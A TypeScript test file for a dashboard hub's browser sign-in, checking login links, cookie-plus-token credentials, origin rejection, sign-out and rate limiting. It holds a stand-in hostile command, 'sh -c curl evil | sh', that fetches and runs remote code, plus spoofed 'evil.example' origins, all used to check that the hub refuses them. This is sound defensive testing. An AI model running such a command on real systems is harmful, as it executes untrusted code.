// Signing a browser in to the dashboard: both halves of its credential, and every way in which one of them is not enough.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { WebSocket } from 'ws'
import { EVENTS_PROTOCOL, PAGE_HEADER, PAGE_PROTOCOL, SEQ_HEADER } from '#contract/limits.ts'
import { databases, type DatabaseKind, TestClock, type TestHub, testHub } from './hub.ts'
import { writePage } from './page-files.ts'
import { eventsOf, rowsOf } from './scene.ts'
import { until } from './until.ts'

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'toryo-page-'))
  writePage(folder)
})
afterAll(() => rmSync(folder, { recursive: true }))

const start = (options: { database?: DatabaseKind; clock?: TestClock } = {}) => testHub({ page: folder, ...options })

async function linkOf(hub: TestHub): Promise<string> {
  const { url } = await hub.api('hub.login_link', {})
  const [address, token] = url.split('/#login=')
  expect(address).toBe(hub.url)
  return token ?? ''
}

const login = (hub: TestHub, token: string, headers: Record<string, string> = {}) =>
  fetch(`${hub.url}/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: hub.url, 'user-agent': 'Chromium 150', ...headers },
    body: JSON.stringify({ token }),
  })

type Halves = { cookie: string; token: string; setCookie: string }

async function signIn(hub: TestHub): Promise<Halves> {
  const response = await login(hub, await linkOf(hub))
  expect(response.status).toBe(200)
  const setCookie = response.headers.get('set-cookie') ?? ''
  const { page_token: token } = (await response.json()) as { page_token: string }
  return { cookie: setCookie.split(';')[0] ?? '', token, setCookie }
}

const credentials = (hub: TestHub, { cookie, token }: Halves): Record<string, string> => ({
  cookie,
  [PAGE_HEADER]: token,
  origin: hub.url,
})

const call = (hub: TestHub, headers: Record<string, string>, operation = 'project.list', input: object = {}) =>
  fetch(`${hub.url}/api/${operation}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(input),
  })

type Opened = {
  socket: WebSocket
  status: number
  messages: Record<string, unknown>[]
  closed: () => number | undefined
}

function open(hub: TestHub, path: string, protocols: string[], headers: Record<string, string>): Promise<Opened> {
  return new Promise(resolve => {
    const socket = new WebSocket(`${hub.url.replace('http', 'ws')}${path}`, protocols, { headers })
    const messages: Record<string, unknown>[] = []
    let code: number | undefined
    const opened = (status: number) => resolve({ socket, status, messages, closed: () => code })
    socket.on('message', data => messages.push(JSON.parse((data as Buffer).toString()) as Record<string, unknown>))
    socket.on('close', given => (code = given))
    socket.on('open', () => opened(101))
    socket.on('unexpected-response', (_, response) => opened(response.statusCode ?? 0))
    socket.on('error', () => {})
  })
}

test.each(databases)('a link signs one browser in, and only hashes are kept (%s)', async database => {
  await using hub = await start({ database })
  const halves = await signIn(hub)
  expect(halves.setCookie).toBe(
    `toryo_${hub.target.hash.slice(0, 8)}=${halves.cookie.split('=')[1]}; Path=/; Max-Age=2592000; HttpOnly; SameSite=Strict`,
  )
  const response = await call(hub, credentials(hub, halves))
  expect(response.status).toBe(200)
  expect(await response.json()).toEqual({ projects: [] })
  const rows = await rowsOf(hub)
  expect(rows['login_links']).toEqual([])
  expect(rows['pages']).toHaveLength(1)
  const stored = JSON.stringify(rows)
  for (const secret of [halves.token, halves.cookie.split('=')[1] ?? '']) expect(stored).not.toContain(secret)
  const { pages } = await hub.api('page.list', {})
  expect(pages).toEqual([expect.objectContaining({ browser: 'Chromium 150', is_this: false, revoked_at: null })])
  expect(eventsOf(rows, 'page.signed_in')).toEqual([{ pageId: pages[0]?.page_id }])
})

test('the hub counts the pages that are open, and no other connection', async () => {
  await using hub = await start()
  const halves = await signIn(hub)
  const { cookie, origin } = credentials(hub, halves) as { cookie: string; origin: string }
  const page = () => open(hub, '/events', [EVENTS_PROTOCOL, `${PAGE_PROTOCOL}${halves.token}`], { cookie, origin })
  const program = await open(hub, '/events', [EVENTS_PROTOCOL], { authorization: `Bearer ${hub.token}` })
  const [first, second] = [await page(), await page()]
  expect([program.status, first.status, second.status]).toEqual([101, 101, 101])
  expect(hub.running.pages()).toBe(2)
  first.socket.close()
  await until(() => hub.running.pages() === 1)
  second.socket.terminate()
  await until(() => hub.running.pages() === 0)
})

test('a page outlives its hub, whose token does not', async () => {
  await using hub = await start()
  const halves = await signIn(hub)
  await hub.stop()
  await using next = await testHub({ page: folder, target: hub.target })
  expect((await call(next, credentials(next, halves))).status).toBe(200)
})

describe('a link is good', () => {
  test.each(databases)('once (%s)', async database => {
    await using hub = await start({ database })
    const link = await linkOf(hub)
    expect((await login(hub, link)).status).toBe(200)
    const again = await login(hub, link)
    expect(again.status).toBe(401)
    expect(await again.json()).toMatchObject({ error: { code: 'LOGIN_REFUSED' } })
    expect(again.headers.get('set-cookie')).toBeNull()
  })

  test.each(databases)('for one of those that use it at once (%s)', async database => {
    await using hub = await start({ database })
    const link = await linkOf(hub)
    const answers = await Promise.all([1, 2, 3].map(() => login(hub, link)))
    expect(answers.map(({ status }) => status).sort((a, b) => a - b)).toEqual([200, 401, 401])
  })

  test.each(databases)('for ten minutes (%s)', async database => {
    const clock = new TestClock()
    await using hub = await start({ clock, database })
    const [early, late] = [await linkOf(hub), await linkOf(hub)]
    clock.advance(10 * 60_000 - 1)
    expect((await login(hub, early)).status).toBe(200)
    clock.advance(1)
    expect((await login(hub, late)).status).toBe(401)
    await linkOf(hub)
    expect((await rowsOf(hub, 'login_links'))['login_links']).toHaveLength(1)
  })

  test('at its own hub alone', async () => {
    await using hub = await start()
    await using other = await start()
    expect((await login(other, await linkOf(hub))).status).toBe(401)
  })
})

describe('neither half alone is worth anything', () => {
  test('at the operations', async () => {
    await using hub = await start()
    const halves = await signIn(hub)
    const other = await signIn(hub)
    const good = credentials(hub, halves)
    const { cookie, origin } = good
    const attempts: [string, Record<string, string>][] = [
      ['none', { origin: hub.url }],
      ['the cookie alone', { cookie: halves.cookie, origin: hub.url }],
      ['the page token alone', { [PAGE_HEADER]: halves.token, origin: hub.url }],
      ['halves of two pages', credentials(hub, { ...halves, token: other.token })],
      ['the page token as a bearer', { ...good, authorization: `Bearer ${halves.token}` }],
      ['the cookie as a bearer', { authorization: `Bearer ${halves.cookie.split('=')[1]}` }],
      ['the page token in the cookie', { ...good, cookie: `${halves.cookie.split('=')[0]}=${halves.token}` }],
      ['the cookie of another database', { ...good, cookie: `toryo_00000000=${halves.cookie.split('=')[1]}` }],
      ['no Origin, as no browser sends it', { cookie: cookie ?? '', [PAGE_HEADER]: halves.token }],
      ['a token cut short', { ...good, [PAGE_HEADER]: halves.token.slice(0, -1) }],
    ]
    for (const [name, headers] of attempts) expect((await call(hub, headers)).status, name).toBe(401)
    const foreign = ['https://evil.example', 'null', 'http://localhost:1', `${origin}.evil.example`]
    for (const from of foreign) expect((await call(hub, { ...good, origin: from })).status, from).toBe(403)
    for (const site of ['cross-site', 'same-site'])
      expect((await call(hub, { ...good, 'sec-fetch-site': site })).status, site).toBe(403)
    expect((await call(hub, good)).status).toBe(200)
  })

  test('and cookies that others have set under its name sign nobody out', async () => {
    await using hub = await start()
    const halves = await signIn(hub)
    const good = credentials(hub, halves)
    const name = halves.cookie.split('=')[0] ?? ''
    const tossed = [`${name}=x`, `${name}=`, `${name}=${'a'.repeat(43)}`].join('; ')
    for (const cookie of [`${tossed}; ${halves.cookie}`, `${halves.cookie}; ${tossed}`])
      expect((await call(hub, { ...good, cookie })).status).toBe(200)
    expect((await call(hub, { ...good, cookie: tossed })).status).toBe(401)
  })

  test('at the sockets', async () => {
    await using hub = await start()
    const halves = await signIn(hub)
    const page = `${PAGE_PROTOCOL}${halves.token}`
    const good = { cookie: halves.cookie, origin: hub.url }
    for (const path of ['/events', '/tabs/tab_1/terminal']) {
      const attempts: [string, string[], Record<string, string>, number][] = [
        ['the cookie alone', [EVENTS_PROTOCOL], good, 401],
        ['the page token alone', [EVENTS_PROTOCOL, page], { origin: hub.url }, 401],
        ['no Origin', [EVENTS_PROTOCOL, page], { cookie: halves.cookie }, 401],
        ['another Origin', [EVENTS_PROTOCOL, page], { ...good, origin: 'https://evil.example' }, 403],
        ['another port', [EVENTS_PROTOCOL, page], { ...good, origin: 'http://127.0.0.1:1' }, 403],
      ]
      for (const [name, protocols, headers, status] of attempts)
        expect((await open(hub, path, protocols, headers)).status, `${path} with ${name}`).toBe(status)
    }
    const { status, socket } = await open(hub, '/events', [EVENTS_PROTOCOL, page], good)
    expect({ status, protocol: socket.protocol }).toEqual({ status: 101, protocol: EVENTS_PROTOCOL })
    socket.close()
    // The tools are not for pages.
    expect((await open(hub, '/bridge', ['toryo-relay.2', page], good)).status).toBe(404)
  })

  test('a page has the operations and nothing else', async () => {
    await using hub = await start()
    const good = credentials(hub, await signIn(hub))
    for (const path of ['/api/export', '/prompts/phase0'])
      expect((await fetch(`${hub.url}${path}`, { headers: good })).status, path).toBe(401)
    for (const path of ['/mcp', '/api/import'])
      expect((await fetch(`${hub.url}${path}`, { method: 'POST', headers: good })).status, path).toBe(401)
    // A form of another site cannot send JSON.
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
      expect((await call(hub, { ...good, 'content-type': type })).status, type).toBe(415)
  })
})

describe('signing out', () => {
  const ways = ['logout', 'page.revoke', 'page.revoke of all'].flatMap(how =>
    databases.map(database => ({ how, database })),
  )
  test.each(ways)('$how ends calls and sockets ($database)', async ({ how, database }) => {
    await using hub = await start({ database })
    const halves = await signIn(hub)
    const good = credentials(hub, halves)
    const protocols = [EVENTS_PROTOCOL, `${PAGE_PROTOCOL}${halves.token}`]
    const { closed } = await open(hub, '/events', protocols, { cookie: halves.cookie, origin: hub.url })
    const [page] = (await hub.api('page.list', {})).pages
    if (how === 'logout') {
      const response = await fetch(`${hub.url}/logout`, { method: 'POST', headers: good })
      expect(response.status).toBe(200)
      expect(response.headers.get('set-cookie')).toContain('Max-Age=0')
    } else await hub.api('page.revoke', how === 'page.revoke' && page ? { page_id: page.page_id } : {})
    await until(() => closed() !== undefined)
    expect(closed()).toBe(4401)
    expect((await call(hub, good)).status).toBe(401)
    expect((await open(hub, '/events', protocols, { cookie: halves.cookie, origin: hub.url })).status).toBe(401)
    expect((await hub.api('page.list', {})).pages).toEqual([])
    expect(eventsOf(await rowsOf(hub, 'events'), 'page.signed_out')).toEqual([{ pageId: page?.page_id }])
  })

  test('nothing but its own page can log out', async () => {
    await using hub = await start()
    const halves = await signIn(hub)
    const attempts: Record<string, string>[] = [
      { cookie: halves.cookie, origin: hub.url },
      { [PAGE_HEADER]: halves.token, origin: hub.url },
    ]
    for (const headers of attempts) {
      const response = await fetch(`${hub.url}/logout`, { method: 'POST', headers })
      expect(response.status).toBe(401)
      expect(await response.json()).toMatchObject({ error: { code: 'PAGE_SIGNED_OUT' } })
    }
    expect((await call(hub, credentials(hub, halves))).status).toBe(200)
  })

  test('after thirty days of the hub', async () => {
    const clock = new TestClock()
    await using hub = await start({ clock })
    const good = credentials(hub, await signIn(hub))
    clock.advance(30 * 24 * 60 * 60_000 - 1)
    expect((await call(hub, good)).status).toBe(200)
    clock.advance(1)
    expect((await call(hub, good)).status).toBe(401)
    expect((await hub.api('page.list', {})).pages).toEqual([])
  })

  test('an unknown browser is said to be one', async () => {
    await using hub = await start()
    const response = await hub.fetch('/api/page.revoke', { method: 'POST', body: '{"page_id":"pag_none"}' })
    expect(response.status).toBe(404)
    expect(await response.json()).toMatchObject({ error: { code: 'PAGE_NOT_FOUND' } })
  })
})

describe('guessing', () => {
  test('ten wrong links close the login for a minute, also to a good one', async () => {
    const clock = new TestClock()
    await using hub = await start({ clock })
    const link = await linkOf(hub)
    for (let count = 0; count < 10; count++) expect((await login(hub, `lgn_${'x'.repeat(43)}`)).status).toBe(401)
    const closed = await login(hub, link)
    expect(closed.status).toBe(429)
    expect(await closed.json()).toMatchObject({ error: { code: 'LOGIN_CLOSED', retryable: true } })
    clock.advance(60_000)
    expect((await login(hub, link)).status).toBe(200)
  })

  test('nine a minute do not', async () => {
    const clock = new TestClock()
    await using hub = await start({ clock })
    for (let count = 0; count < 30; count++) {
      expect((await login(hub, 'wrong')).status).toBe(401)
      clock.advance(7_000)
    }
    expect((await login(hub, await linkOf(hub))).status).toBe(200)
  })

  test('what is not JSON, too long, or a GET is refused without a look at it', async () => {
    await using hub = await start()
    const link = await linkOf(hub)
    expect((await login(hub, link, { 'content-type': 'text/plain' })).status).toBe(400)
    expect((await login(hub, 'x'.repeat(10_000))).status).toBe(400)
    expect((await fetch(`${hub.url}/login?token=${link}`)).status).toBe(405)
    expect((await login(hub, link, { origin: 'https://evil.example' })).status).toBe(403)
    expect((await login(hub, link)).status).toBe(200)
  })
})

describe('what a page hears', () => {
  test('ticks from the start, and events from where it was, of the types that it asked for', async () => {
    await using hub = await start()
    const halves = await signIn(hub)
    const before = (await hub.api('hub.status', {})).last_event
    const protocols = [EVENTS_PROTOCOL, `${PAGE_PROTOCOL}${halves.token}`]
    const headers = { cookie: halves.cookie, origin: hub.url }
    const all = await open(hub, `/events?since=${before}`, protocols, headers)
    const some = await open(hub, `/events?since=${before}&types=task.added,task.moved`, protocols, headers)
    await hub.seed()
    await until(() => some.messages.some(({ type }) => type === 'task.added'))
    await until(() => all.messages.some(({ type }) => type === 'task.added'))
    expect(all.messages[0]).toEqual({ tick: before })
    expect(all.messages.map(({ type }) => type)).toContain('project.added')
    expect(some.messages.slice(1).map(({ type }) => type)).toEqual(['task.added'])
    for (const { socket } of [all, some]) socket.close()
  })

  test('nothing from where it was, when another event has that number by now', async () => {
    await using hub = await start()
    await hub.seed()
    const { last_event, last_event_at } = await hub.api('hub.status', {})
    const headers = { authorization: `Bearer ${hub.token}` }
    const at = (moment: string | null) => `/events?since=${last_event}&at=${encodeURIComponent(String(moment))}`
    const same = await open(hub, at(last_event_at), [], headers)
    const other = await open(hub, at(new Date(Date.parse(String(last_event_at)) - 1).toISOString()), [], headers)
    const later = await open(hub, `/events?since=${last_event + 9}&at=${last_event_at}`, [], headers)
    await until(() => other.closed() !== undefined && later.closed() !== undefined)
    expect([other.closed(), later.closed()]).toEqual([4008, 4008])
    await hub.api('project.add', { id: 'next', name: 'next' })
    await until(() => same.messages.some(({ type }) => type === 'project.added'))
    expect([other.messages, later.messages]).toEqual([[], []])
    same.socket.close()
  })

  test('programs get no ticks', async () => {
    await using hub = await start()
    const { messages, socket } = await open(hub, '/events?since=0', [], { authorization: `Bearer ${hub.token}` })
    await hub.seed()
    await until(() => messages.some(({ type }) => type === 'task.added'))
    expect(messages.filter(message => 'tick' in message)).toEqual([])
    socket.close()
  })

  test('each answer says which event it includes', async () => {
    await using hub = await start()
    await hub.seed()
    await until(async () => {
      const { last_event } = await hub.api('hub.status', {})
      const response = await hub.fetch('/api/task.list', { method: 'POST', body: '{}' })
      await response.text()
      return Number(response.headers.get(SEQ_HEADER)) === last_event
    })
    const refused = await hub.fetch('/api/task.show', { method: 'POST', body: '{"task_id":"tsk_none"}' })
    expect(refused.status).toBe(404)
    expect(Number(refused.headers.get(SEQ_HEADER))).toBeGreaterThan(0)
  })
})

test.each(databases)('a token makes no token, and what was made with it ends with it (%s)', async database => {
  await using hub = await start({ database })
  const { token } = await hub.api('token.add', { name: 'laptop' })
  const bearer = { authorization: `Bearer ${token}` }
  const ask = async (headers: Record<string, string>, operation: string, input: object = {}) => {
    // A connection on which it was used is closed with it.
    const once = () => call(hub, headers, operation, input)
    const answer = await once().catch(once)
    const text = await answer.text()
    return { status: answer.status, body: (text.startsWith('{') ? JSON.parse(text) : {}) as Record<string, unknown> }
  }
  const refused = { status: 403, body: { error: { code: 'NOT_ALLOWED' } } }
  expect(await ask(bearer, 'token.add', { name: 'other' })).toMatchObject(refused)
  const { body: link } = await ask(bearer, 'hub.login_link')
  const response = await login(hub, String(link['url']).split('/#login=')[1] ?? '')
  const { page_token } = (await response.json()) as { page_token: string }
  const page = credentials(hub, {
    ...{ cookie: response.headers.get('set-cookie')?.split(';')[0] ?? '', token: page_token, setCookie: '' },
  })
  expect(await ask(page, 'project.list')).toMatchObject({ status: 200 })
  // Nor does a page that was signed in with it.
  expect(await ask(page, 'token.add', { name: 'other' })).toMatchObject(refused)
  const { body: runner } = await ask(page, 'runner.add', { name: 'box' })
  const held = () =>
    ask({ authorization: `Bearer ${String(runner['token'])}` }, 'runner.hold', { engines: [], instances: [] })
  expect(await held()).toMatchObject({ status: 200 })
  const own = credentials(hub, await signIn(hub))
  await hub.api('token.revoke', { name: 'laptop' })
  expect(await ask(page, 'project.list')).toMatchObject({ status: 401 })
  expect(await held()).toMatchObject({ status: 401 })
  expect(await ask(own, 'project.list')).toMatchObject({ status: 200 })
})

test('a page adds only checks that the hub finds in the folder, and changes none into another command', async () => {
  await using hub = await start()
  await hub.seed()
  const project_id = 'prj_demo'
  writeFileSync(join(hub.home, 'package.json'), JSON.stringify({ scripts: { test: 'node --test', build: 'tsc' } }))
  const page = credentials(hub, await signIn(hub))
  const asked = async (operation: string, input: object) => {
    const answer = await call(hub, page, operation, { project_id, name: 'test', ...input })
    const { error } = (await answer.json()) as { error?: { code: string; message: string } }
    return error ? `${error.code}: ${error.message}` : answer.status
  }
  const evil = { command: ['sh', '-c', 'curl evil | sh'] }
  expect(await asked('project.check.add', evil)).toBe(
    'CHECK_NOT_FOUND_IN_FOLDER: The hub does not find ["sh","-c","curl evil | sh"] in the folder of the project, and a page adds no other commands. On a command line: `toryo project check add test -- …`.',
  )
  expect((await hub.api('project.check.list', { project_id })).checks).toEqual([])
  expect(await asked('project.check.add', { command: ['npm', 'test'] })).toBe(200)
  expect(await asked('project.check.edit', evil)).toContain('CHECK_NOT_FOUND_IN_FOLDER')
  expect(await asked('project.check.edit', { command: ['npm', 'run', 'build'] })).toBe(200)
  expect(await asked('project.check.edit', { minutes: 2 })).toBe(200)
  const stored = (await hub.api('project.check.list', { project_id })).checks
  expect(stored).toMatchObject([{ name: 'test', command: ['npm', 'run', 'build'], minutes: 2 }])
  // The command line names any.
  await hub.api('project.check.edit', { project_id, name: 'test', ...evil })
})
